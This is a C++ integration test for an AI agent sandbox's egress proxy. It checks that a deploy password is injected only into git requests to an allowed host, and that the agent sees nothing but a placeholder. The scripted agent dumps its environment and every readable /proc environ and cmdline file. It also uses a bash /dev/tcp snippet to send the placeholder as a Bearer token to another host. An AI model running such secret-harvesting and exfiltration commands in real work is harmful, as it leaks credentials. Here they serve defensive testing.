// Secrets added at the egress proxy (issue 27) under isolation container, end to end: the real
// binary, a real engine and the test image, network: allowlist through the unit's bridge. The
// image has no curl: the real client is git (its libcurl, trusting the unit's CA through
// GIT_SSL_CAINFO), cloning a private dependency over HTTPS from tests/fakes/private_registry.py
// (git http-backend behind Basic auth, a test certificate the test hook
// AWAYWORK_TEST_EGRESS_UPSTREAM makes the proxy trust). The agent holds only the placeholder,
// sends it to another allowed host (refused), and dumps what it can read (its environment, every
// /proc environ and cmdline it can open) into its outputs; HOME and the clone are in the run
// folder, so the test's scan of the state folder covers them.
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <string>

#include <fmt/format.h>

#include "../fakes/spawn_fake.h"
#include "../isolate/container/tiny_http.h"
#include "container_pipeline.h"
#include "inject_probe.h"

namespace aw::test {
namespace {

// GET http://HOST/x through HTTP_PROXY with bash's /dev/tcp, the placeholder ($2) as a Bearer
// token; prints the status line and the proxy's refusal header.
constexpr const char* kGet =
    "p=${HTTP_PROXY#http://}; exec 3<>/dev/tcp/${p%:*}/${p##*:} || exit 9\n"
    "printf 'GET http://%s/x HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: Bearer %s\\r\\n"
    "Connection: close\\r\\n\\r\\n' \"$1\" \"$1\" \"$2\" >&3\n"
    "tr -d '\\r' <&3 | grep -i -e '^HTTP/' -e '^x-awaywork-refused'\n";

class ContainerInjected : public ContainerPipeline {
 protected:
  void SetUp() override {
    ContainerPipeline::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    use_test_secret_store();
    cert_ = make_cert();
    ASSERT_FALSE(cert_.empty()) << "the openssl CLI made no certificate";
    reg_log_ = root + "/registry.log";
    std::string line = spawn_fake(
        {"/usr/bin/python3", std::string(AW_SOURCE_DIR) + "/tests/fakes/private_registry.py",
         "--root", root + "/registry", "--cert", cert_, "--key", root + "/registry.key", "--user",
         "deploy", "--password", kDeployPass, "--log", reg_log_, "--git-repo", "private-dep"},
        &reg_pid_);
    ASSERT_FALSE(line.empty()) << "the test registry did not start";
    reg_port_ = std::stoi(line);
  }

  void TearDown() override {
    if (reg_pid_ > 0) {
      ::kill(reg_pid_, SIGTERM);
      ::waitpid(reg_pid_, nullptr, 0);
    }
    ContainerPipeline::TearDown();
  }

  // A self-signed certificate for git.example.test (its own CA), made with the openssl CLI.
  std::string make_cert() {
    std::string cert = root + "/registry.crt", key = root + "/registry.key";
    std::string cmd = fmt::format(
        "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 "
        "-subj /CN=git.example.test -addext subjectAltName=DNS:git.example.test -keyout {} "
        "-out {} >/dev/null 2>&1",
        key, cert);
    return std::system(cmd.c_str()) == 0 ? cert : "";
  }

  std::string cert_, reg_log_;
  pid_t reg_pid_ = -1;
  int reg_port_ = 0;
};

TEST_F(ContainerInjected, GitInTheContainerClonesWithTheCredentialTheAgentNeverHolds) {
  store_secret("DEPLOY_PASSWORD", kDeployPass);
  TinyHttp other;  // another allowed host: the placeholder must never reach it
  ASSERT_GT(other.port, 0);
  std::string url = fmt::format("https://git.example.test:{}/git/private-dep.git", reg_port_);
  setup({{"a.txt", "x\n"}, {"tools/get.sh", kGet}},
        fmt::format(R"(cat >/dev/null
o="$AWAYWORK_OUTPUTS"
case "$DEPLOY_PASSWORD" in awaywork-placeholder-DEPLOY_PASSWORD-*) echo yes;; *) echo no;; esac > "$o/placeholder"
env > "$o/env"
tr '\0' '\n' < /proc/self/environ > "$o/environ"
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null || true; echo; done > "$o/proc"
GIT_TERMINAL_PROMPT=0 git clone -q {0} "$o/dep" > "$o/clone.log" 2>&1 || true
cat "$o/dep/README" > "$o/cloned" 2>&1 || true
bash tools/get.sh other.test:{1} "$DEPLOY_PASSWORD" > "$o/elsewhere" 2>&1 || true
echo y >> a.txt)",
                    url, other.port),
        "",
        "sandbox: {network: allowlist, allow: [git.example.test, other.test]}\n"
        "secrets:\n  DEPLOY_PASSWORD:\n"
        "    inject: [{host: git.example.test, basic: {user: deploy}, methods: [GET, POST], "
        "paths: [/git/]}]\n");
  auto r = run_unit("clone the private dependency", {},
                    {"AWAYWORK_TEST_EGRESS_UPSTREAM=" + cert_ + " git.example.test other.test"});
  const auto& u = r.record;
  ASSERT_TRUE(u.is_object()) << r.out << r.err;
  EXPECT_EQ(u["sandbox"], std::string("sandboxed: container docker ") + kImage +
                              ", network allowlist (2 allowed host(s) through the egress proxy)")
      << r.out;
  ASSERT_FALSE(u["phases"].empty()) << r.out << r.err;
  std::string run_dir = u["run_dir"], id = u["id"];
  std::string out = run_dir + "/work/.away/outputs";
  EXPECT_EQ(read(out + "/placeholder"), "yes\n");
  EXPECT_EQ(read(out + "/cloned"), "private dependency ok\n") << read(out + "/clone.log");
  std::string elsewhere = read(out + "/elsewhere");
  EXPECT_EQ(elsewhere.rfind("HTTP/1.1 403", 0), 0u) << elsewhere;
  EXPECT_NE(elsewhere.find("deny placeholder-exfiltration DEPLOY_PASSWORD"), std::string::npos)
      << elsewhere;
  EXPECT_EQ(other.served, 0) << "the placeholder never left for another host";
  // The dumps hold what the agent could read: the placeholder, never the value.
  EXPECT_NE(read(out + "/env").find("DEPLOY_PASSWORD=awaywork-placeholder-DEPLOY_PASSWORD-"),
            std::string::npos);
  EXPECT_NE(read(out + "/environ").find("DEPLOY_PASSWORD=awaywork-placeholder-"),
            std::string::npos);
  EXPECT_FALSE(read(out + "/proc").empty());

  // Positive control: the server got the credentials on each of git's requests (the ref
  // advertisement, then the upload-pack POST): they came from the proxy.
  ASSERT_NO_FATAL_FAILURE(expect_every_git_request_authorized(reg_log_, kDeployBasic));
  std::string egress = read(run_dir + "/egress.log");
  EXPECT_NE(egress.find(R"("injected":"DEPLOY_PASSWORD")"), std::string::npos) << egress;
  EXPECT_NE(egress.find("deny placeholder-exfiltration DEPLOY_PASSWORD"), std::string::npos)
      << egress;

  // Nowhere the value or its Basic encoding: stdout/stderr, the whole state folder (the clone,
  // the container's HOME in it, the dumps in the outputs, the transcript, the egress log).
  for (const std::string& v : {kDeployPass, kDeployBasic})
    expect_held_nowhere(r, root + "/state", v);
  EXPECT_FALSE(files_holding(root + "/state", "private dependency ok").empty())
      << "the scan reads the clone";
  EXPECT_FALSE(files_holding(root + "/state", "awaywork-placeholder-DEPLOY_PASSWORD-").empty())
      << "the scan reads the dumps";
  EXPECT_TRUE(containers_of(id).empty()) << "the bridge goes with the unit";
}

}  // namespace
}  // namespace aw::test
